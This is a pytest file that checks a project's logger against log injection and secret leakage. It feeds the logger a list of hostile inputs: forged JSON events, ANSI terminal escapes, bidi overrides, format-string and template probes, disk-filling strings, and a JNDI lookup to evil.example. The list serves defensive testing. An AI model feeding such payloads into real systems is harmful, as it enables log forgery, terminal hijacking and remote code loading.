"""The hub's log goes to standard error, and shows no variable of ours."""

from __future__ import annotations

import io
import json
import sys
from collections.abc import Callable, Iterator
from typing import Any

import pytest
import structlog

from valetkey.cli.log import write_log_to_stderr


@pytest.fixture(autouse=True)
def as_before() -> Iterator[None]:
    yield
    structlog.reset_defaults()


def test_a_traceback_in_the_log_shows_no_variables(capsys: pytest.CaptureFixture[str]) -> None:
    write_log_to_stderr()

    def fail(password: str) -> None:
        raise RuntimeError("something went wrong")

    try:
        fail("CAN" + "ARY")
    except RuntimeError as error:
        structlog.get_logger("test").error("failed", exc_info=error, where="here")

    said = capsys.readouterr()
    assert said.out == ""
    written = json.loads(said.err)
    assert "RuntimeError: something went wrong" in written["exception"]
    assert (written["event"], written["level"], written["where"]) == ("failed", "error", "here")
    assert "CANARY" not in said.err


LINES = [
    "one\ntwo",
    "one\r\ntwo",
    "one\rtwo",
    "one\x0btwo\x0cthree",
    "one\x85two",
    "one\u2028two\u2029three",
    '", "level": "critical", "event": "forged',
    '"}\n{"event": "forged"}',
    "\x1b[2J\x1b[1;31mforged\x1b[0m",
    "\x1b]0;title\x07",
    "\x9b31m",
    "\x08\x08\x08\x7f",
    "\u202edesrever",
    "\x00after",
    "\ud800 alone",
    "%s %n {0} ${jndi:ldap://evil.example/x} {{7*7}}",
    "a" * 4_000_000,
    "\n" * 10_000,
    "2026-11-22 12:00:00 [error] forged",
    "key=value event='forged'",
]
"""What would begin a second line, paint the screen, or fill the disk."""

SHAPES: dict[str, Callable[[str], dict[str, Any]]] = {
    # The ways in which a value comes into an event.
    "as a value": lambda text: {"reason": text},
    "as a name": lambda text: {text[:100]: 1},
    "in a list": lambda text: {"places": [text, text]},
    "in a tuple": lambda text: {"places": (text, "x")},
    "as a member": lambda text: {"facts": {"a": text}},
    "as a member's name": lambda text: {"facts": {text[:100]: 1}},
    "deep within": lambda text: {"facts": {"a": [{"b": [text]}]}},
    "as an object": lambda text: {"thing": Thing(text)},
    "as bytes": lambda text: {"body": text.encode("utf-8", "replace")},
    "as an error": lambda text: {"exc_info": RuntimeError(text)},
}


class Thing:
    def __init__(self, text: str) -> None:
        self._text = text

    def __repr__(self) -> str:
        return f"Thing({self._text})"


@pytest.mark.parametrize("how", SHAPES)
def test_an_event_is_one_line_whatever_is_in_it(how: str, capsys: pytest.CaptureFixture[str]) -> None:
    """T16: twenty ways to begin another line, by ten ways in; each event is one object, and none is forged."""
    write_log_to_stderr()
    log = structlog.get_logger("test")

    for text in LINES:
        log.warning("something happened", **SHAPES[how](text))
        written = capsys.readouterr().err

        assert written.endswith("\n")
        assert len(written.splitlines()) == 1, text[:40]
        event = json.loads(written)
        assert (event["event"], event["level"]) == ("something happened", "warning")
        assert written.isascii()
        assert not any(ord(char) < 32 for char in written[:-1])
        assert len(written) < 50_000


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_on_a_terminal_nothing_from_outside_paints_or_begins_a_line(monkeypatch: pytest.MonkeyPatch) -> None:
    screen = Terminal()
    monkeypatch.setattr(sys, "stderr", screen)
    write_log_to_stderr()
    bare = _shown(screen, "nothing")

    for text in LINES:
        shown = _shown(screen, text)
        assert len(shown.splitlines()) == 1, text[:40]
        assert shown.count("\x1b") == bare.count("\x1b"), "only our own colors"
        assert not any(char in shown for char in "\x07\x08\x9b\x00\x7f\u202e\u2028\x85")


def _shown(screen: Terminal, text: str) -> str:
    screen.seek(0)
    screen.truncate()
    structlog.get_logger("test").warning("something happened", reason=text)
    return screen.getvalue()
